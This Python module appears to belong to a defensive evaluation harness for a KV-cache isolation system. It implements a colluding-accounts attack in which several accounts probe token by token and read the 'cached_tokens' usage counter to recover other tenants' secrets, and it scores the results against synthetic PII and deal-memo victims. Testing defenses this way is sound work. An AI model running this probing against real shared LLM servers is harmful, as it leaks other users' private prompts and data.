"""Attack 4: colluding accounts walk a secret token by token with the usage counter.

Issue 11's adaptive attacker, end to end: several accounts of one attacker take turns, one
probe each, so no single account shows a walk. The attacker knows the victim's app template
(the tokens before the secret) and a candidate set for the secret (see :mod:`..victims`). At
each depth it probes every distinct next token the remaining candidates allow:
``known + [t] + pad`` (pad: a few random tokens, unique per probe, so no probe ever repeats
and an attacker's own probe never answers a later one), sent by the next account in turn, and
reads ``usage.prompt_tokens_details.cached_tokens``: a count that reaches ``t`` confirms it,
exactly, with no timing noise. A depth where no candidate is confirmed is probed again
(``retries`` times, fresh pads, the next accounts: one of them may have been throttled by the
monitor, and a throttled account sees only its own entries), then ends the walk.

Two kinds of victim:

- ``pii``: the profile's PII victims (names, SSNs, cards, ...), which the detector flags.
  Selective mode must show none of their tokens.
- ``cleared``: a company named as an acquisition target in a deal memo. The written policy
  (detect README) makes organisations public, so the detector clears the secret on purpose:
  this is content that only the Reuse-Diversity-Ratio monitor can take back, and the walk
  shows how far the colluding accounts get against it (in-process, with the monitor on and
  off: ``eval/monitor_collusion.py``).

Per secret the report gives the tokens recovered (leading secret tokens confirmed), whether
the whole secret was, the probes spent and, per mode, the monitor's actions over the attack.
"""

from __future__ import annotations

import asyncio
import dataclasses
import random
import statistics
from collections.abc import Callable, Sequence
from typing import Any

from sglang_safekv.tooling.evaluation.attacks.common import FillerTokens, send_victims
from sglang_safekv.tooling.evaluation.attacks.ttft_reconstruction import ProbePlan, plan_probes
from sglang_safekv.tooling.evaluation.client import ApiClient
from sglang_safekv.tooling.evaluation.codec import Codec
from sglang_safekv.tooling.evaluation.pii import (
    Secret,
    benign_sentences,
    make_faker,
)
from sglang_safekv.tooling.evaluation.victims import AppTemplate, Victim


@dataclasses.dataclass(frozen=True)
class CollusionSettings:
    accounts: int = 8  # colluding accounts, one probe each in turn
    pace_s: float = 0.05  # between probes
    pad_tokens: int = 4
    retries: int = 1  # more passes over a depth where no candidate was confirmed
    cleared_victims: int = 2  # deal memos whose secret (a company) the detector clears
    cleared_candidates: int = 8
    victim_max_tokens: int = 4
    settle_s: float = 2.0  # after the victims, before probing (lets the detector finish)
    account_prefix: str = "colluder"
    seed: int = 17

    def __post_init__(self) -> None:
        if (
            self.accounts < 1
            or self.pad_tokens < 1
            or self.retries < 0
            or self.cleared_candidates < 2
        ):
            raise ValueError(
                "CollusionSettings needs >= 1 account, >= 1 pad token, >= 0 retries, "
                ">= 2 cleared candidates"
            )

    def account_names(self) -> list[str]:
        return [f"{self.account_prefix}{i:03d}" for i in range(self.accounts)]


def cleared_victims(settings: CollusionSettings) -> list[Victim]:
    """Deal memos naming a company: content the detector's policy makes public."""
    fake = make_faker(settings.seed)
    rng = random.Random(settings.seed)
    out = []
    for i in range(settings.cleared_victims):
        system_prompt = (
            f"You are the deal desk {i + 1} assistant. Answer from the memo. "
            + benign_sentences(fake, 40)
        )
        head = "Deal memo\nAcquisition target: "
        continuation = "\nCheck the memo above, then answer the question below.\nQuestion:\n"
        template = AppTemplate(f"Deal desk {i + 1}", "company", system_prompt, head, continuation)
        names: list[str] = []
        while len(names) < settings.cleared_candidates:
            name = fake.company()
            if name not in names:
                names.append(name)
        value = names[0]
        candidates = names[:]
        rng.shuffle(candidates)
        secret = Secret("company", value, len(head), len(head) + len(value))
        tail = "Summarise the risks of this deal in three bullet points."
        out.append(Victim(f"dealer{i:03d}", template, secret, tail, tuple(candidates)))
    return out


@dataclasses.dataclass
class Walk:
    tenant: str
    group: str  # "pii" or "cleared"
    kind: str
    secret_tokens: int
    recovered: int  # leading secret tokens the attackers confirmed
    whole: bool
    wrong: bool  # a confirmed token was not the secret's (a false hit)
    # The confirmed tokens leave the secret as the only candidate: with a candidate set, the
    # first token that tells the candidates apart already names the secret.
    identified: bool
    probes: int
    depths: int  # depths probed


@dataclasses.dataclass
class CollusionResult:
    walks: list[Walk]
    monitor_actions: dict[str, int] | None  # over the attack; None: stats unreadable

    def summary(self) -> dict[str, Any]:
        def group(name: str) -> dict[str, Any]:
            ws = [w for w in self.walks if w.group == name]
            return {
                "secrets": len(ws),
                "whole_secrets": sum(w.whole for w in ws),
                "recovered_mean": statistics.mean(w.recovered for w in ws) if ws else None,
                "recovered_max": max((w.recovered for w in ws), default=None),
                "secret_tokens_mean": (
                    statistics.mean(w.secret_tokens for w in ws) if ws else None
                ),
                "wrong_tokens": sum(w.wrong for w in ws),
                "identified": sum(w.identified for w in ws),
                "probes": sum(w.probes for w in ws),
            }

        return {
            "pii": group("pii"),
            "cleared": group("cleared"),
            "probes_sent": sum(w.probes for w in self.walks),
            "monitor_actions": self.monitor_actions,
            "per_victim": [dataclasses.asdict(w) for w in self.walks],
        }


class _Accounts:
    """The colluding accounts in turn."""

    def __init__(self, names: Sequence[str]):
        self.names = list(names)
        self.sent = 0

    def next(self) -> str:
        name = self.names[self.sent % len(self.names)]
        self.sent += 1
        return name


async def walk_secret(
    client: ApiClient,
    plans: Sequence[ProbePlan],
    accounts: _Accounts,
    filler: FillerTokens,
    settings: CollusionSettings,
    rng: random.Random,
) -> tuple[list[int], int, int, list[ProbePlan]]:
    """(confirmed tokens, probes sent, depths probed, candidates left) of one walk over
    ``plans``' candidates; the walk knows only the template and the candidates, never which
    one the victim sent."""
    prefix = plans[0].prefix
    alive = list(plans)
    confirmed: list[int] = []
    probes = depths = 0
    while any(len(p.candidate) > len(confirmed) for p in alive):
        depth = len(confirmed)
        depths += 1
        hit: tuple[int, ...] | None = None
        # Pass k probes k + 1 tokens: the attackers' own earlier probes (public once judged)
        # share at most k of them, so only the victim's entry can answer the whole path.
        for extra in range(1 + settings.retries):
            paths = sorted({_path(p, depth, extra + 1) for p in alive if len(p.candidate) > depth})
            rng.shuffle(paths)
            for path in paths:
                ids = prefix + confirmed + list(path) + filler.take(settings.pad_tokens)
                got = await client.complete_ids(accounts.next(), ids, max_tokens=1)
                probes += 1
                if not got.ok:
                    raise RuntimeError(f"collusion probe failed: {got.error}")
                await asyncio.sleep(settings.pace_s)
                if got.cached_tokens >= len(prefix) + depth + len(path):
                    hit = path
                    break
            if hit is not None:
                break
        if hit is None:
            break
        confirmed += hit
        alive = [p for p in alive if _path(p, depth, len(hit)) == hit]
    return confirmed, probes, depths, alive


def _path(plan: ProbePlan, depth: int, n: int) -> tuple[int, ...]:
    """The ``n`` tokens of ``plan``'s candidate (then the template after it) from ``depth``."""
    return tuple((plan.candidate + plan.continuation)[depth : depth + n])


def score(confirmed: Sequence[int], secret: Sequence[int]) -> tuple[int, bool, bool]:
    """(leading secret tokens recovered, whole secret, a wrong secret token confirmed); tokens
    confirmed past the secret (the template after it) do not count."""
    n = 0
    for a, b in zip(confirmed, secret, strict=False):
        if a != b:
            break
        n += 1
    return n, n == len(secret), n < min(len(confirmed), len(secret))


def monitor_actions(stats: dict | None) -> dict[str, int] | None:
    """The monitor's ``actions_*`` and ``throttles`` counters of ``/safekv/stats``
    (schedulers summed)."""
    if not isinstance(stats, dict):
        return None
    out: dict[str, int] = {}
    for one in stats.get("schedulers") or []:
        for name, value in ((one or {}).get("monitor") or {}).items():
            if (name.startswith("actions_") or name == "throttles") and isinstance(value, int):
                out[name] = out.get(name, 0) + value
    return out


async def run(
    client: ApiClient,
    codec: Codec,
    pii_victims: Sequence[Victim],
    settings: CollusionSettings,
    read_stats: Callable[[], dict | None] = lambda: None,
) -> CollusionResult:
    groups = [("pii", v) for v in pii_victims] + [("cleared", v) for v in cleared_victims(settings)]
    plans = {v.tenant: plan_probes(codec, v, 1, 1) for _, v in groups}
    await send_victims(
        client, [(v.tenant, v.messages()) for _, v in groups], settings.victim_max_tokens
    )
    await asyncio.sleep(settings.settle_s)
    before = monitor_actions(read_stats())
    accounts = _Accounts(settings.account_names())
    filler = FillerTokens(codec, settings.seed)
    rng = random.Random(settings.seed)
    walks = []
    for name, victim in groups:
        victim_plans = plans[victim.tenant]
        confirmed, probes, depths, left = await walk_secret(
            client, victim_plans, accounts, filler, settings, rng
        )
        true_plan = victim_plans[victim.candidates.index(victim.secret.value)]
        secret_tokens = true_plan.candidate
        recovered, whole, wrong = score(confirmed, secret_tokens)
        walks.append(
            Walk(
                victim.tenant,
                name,
                victim.secret.kind,
                len(secret_tokens),
                recovered,
                whole,
                wrong,
                bool(confirmed) and left == [true_plan],
                probes,
                depths,
            )
        )
    after = monitor_actions(read_stats())
    actions = (
        None
        if before is None or after is None
        else {k: v - before.get(k, 0) for k, v in sorted(after.items())}
    )
    return CollusionResult(walks, actions)
